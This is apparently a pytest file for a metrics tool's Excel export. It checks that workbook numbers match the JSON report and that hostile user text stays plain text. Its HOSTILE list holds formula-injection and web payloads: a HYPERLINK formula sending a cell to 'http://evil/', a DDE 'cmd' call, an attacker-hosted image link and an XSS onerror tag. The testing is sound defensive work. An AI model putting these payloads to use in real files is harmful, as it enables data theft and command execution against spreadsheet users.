"""The Excel summary: same numbers as the JSON, real formats, and no formula from user text."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from metrics.cli import main
from metrics.compute import registry
from metrics.present.cells import MAX_CELL, put, safe_text, sheet_title

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = [str(p) for p in sorted((ROOT / "sample_data").glob("*.csv.gz"))]
HOSTILE = [
    '=HYPERLINK("http://evil/?x="&A1,"Click")',
    "=cmd|'/c calc'!A1",
    "+1-1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "ctrl\x01char",
    "![x](https://attacker/p.png)",
    "<img src=x onerror=alert(1)>",
]


@pytest.fixture
def sample_outputs(sample_report):
    """The shared sample report (tests/conftest.py: the CLI's JSON and Excel of the sample, two targets set)."""
    return sample_report


@pytest.mark.xdist_group("sample_report")
def test_workbook_sheets_and_summary_values_equal_the_json(sample_outputs):
    report, path = sample_outputs
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == [
        "Summary",
        "What to fix next",
        "Resolution",
        "Efficiency",
        "Experience",
        "Business impact",
        "Topics",
        "Vendor vs evidence",
        "Changes",
        "Forecast",
        "Comparisons",
        "Alerts",
        "Data quality",
        "Settings",
    ]
    topics = wb["Topics"]  # the first table: one row per topic, as in the JSON
    got = [(r[0], r[1]) for r in topics.iter_rows(min_row=3, max_row=2 + len(report["topics"]), values_only=True)]
    assert got == [(t["name"], t["conversations"]) for t in report["topics"]]
    assert any(c.value == report["knowledge_gaps"][0]["sentence"] for row in topics.iter_rows() for c in row)
    ws = wb["Summary"]
    header = [c.value for c in ws[5]]
    col = {h: i for i, h in enumerate(header)}
    seen = 0
    for row in ws.iter_rows(min_row=6, values_only=True):
        mid = row[col["Metric id"]]
        if mid is None:
            break
        m = report["metrics"][mid]
        got = row[col["Value"]]
        if m["value"] is None:
            assert got is None
        elif registry.get(mid).unit == "seconds":  # an Excel duration, read back as a timedelta
            assert got.total_seconds() == pytest.approx(m["value"], abs=1e-3)
        else:
            assert got == pytest.approx(m["value"])
        assert row[col["n"]] == m["denominator"]
        seen += 1
    assert seen == len(report["metrics"])
    assert ws["B6"].number_format == "0.0%"
    assert ws.freeze_panes == "A6" and ws.auto_filter.ref.startswith("A5:")


@pytest.mark.xdist_group("sample_report")
def test_family_sheets_hold_the_by_category_values(sample_outputs):
    report, path = sample_outputs
    ws = openpyxl.load_workbook(path)["Resolution"]
    header = [c.value for c in ws[1]]
    j = header.index(registry.get("true_resolution_rate").label)
    for row in ws.iter_rows(min_row=3, values_only=True):
        if row[0] is None:
            break
        assert row[j] == pytest.approx(report["by_category"][row[0]]["true_resolution_rate"]["value"])


def test_hostile_text_stays_text(tmp_path):
    long = "x" * 40_000
    header = "conversation_id,customer_id,created_at,handled_by,issue_category,=SUM(A1)"
    lines = [header]
    for i, h in enumerate(HOSTILE + [long]):
        quoted = '"' + h.replace('"', '""') + '"'
        lines.append(f"c{i},u{i},2025-01-0{1 + i % 9}T10:00:00Z,ai,{quoted},{quoted}")
    lines.append("bad,,2025-01-01,ai,=1+1,x")  # a rejected row: its reason lands on the Data quality sheet
    src = tmp_path / "=evil.csv"
    src.write_text("\n".join(lines) + "\n")
    out = tmp_path / "o.xlsx"
    assert main(["report", str(src), "--xlsx", str(out)]) == 0
    with zipfile.ZipFile(out) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        for name in sheets:
            xml = z.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml, name
        strings = z.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in z.namelist() else ""
    wb = openpyxl.load_workbook(out)
    texts = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(len(t) <= MAX_CELL for t in texts)
    assert any(t.startswith("=HYPERLINK") for t in texts)  # kept, as text
    assert any(t.endswith("[truncated]") for t in texts)
    assert not any("\x01" in t for t in texts)
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r":
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
    assert "=evil.csv" in strings or "=evil.csv" in "".join(texts)


def test_helpers():
    assert safe_text("a\x00b\x1fc") == "a\ufffdb\ufffdc"
    assert len(safe_text("y" * 50_000)) == MAX_CELL
    assert sheet_title("Billing/Refunds [EU]: a very long category name") == "Billing_Refunds _EU__ a very lo"
    assert sheet_title("''") == "Sheet"
    wb = openpyxl.Workbook()
    ws = wb.active
    put(ws, 1, 1, "=1+1")
    put(ws, 1, 2, -3.5)
    assert (ws["A1"].data_type, ws["A1"].value, ws["B1"].data_type) == ("s", "=1+1", "n")
    buf = io.BytesIO()
    wb.save(buf)
    with zipfile.ZipFile(buf) as z:
        assert not re.search(r"<f[ >]", z.read("xl/worksheets/sheet1.xml").decode())


def test_noncharacters_in_user_text_keep_the_workbook_readable(tmp_path):
    """Issue 23: U+FFFE / U+FFFF in a category made the Excel summary unreadable (not well-formed XML)."""
    import io

    from openpyxl import load_workbook

    from metrics.cli import main

    p = tmp_path / "t.csv"
    p.write_text(
        "conversation_id,customer_id,created_at,handled_by,status,issue_category\n"
        "c1,u1,2024-01-01,ai,closed,Bad\ufffe\uffffcat\n",
        encoding="utf-8",
    )
    out = tmp_path / "s.xlsx"
    assert main(["report", str(p), "--xlsx", str(out)]) == 0
    wb = load_workbook(io.BytesIO(out.read_bytes()))
    texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "Bad\ufffd\ufffdcat" in texts
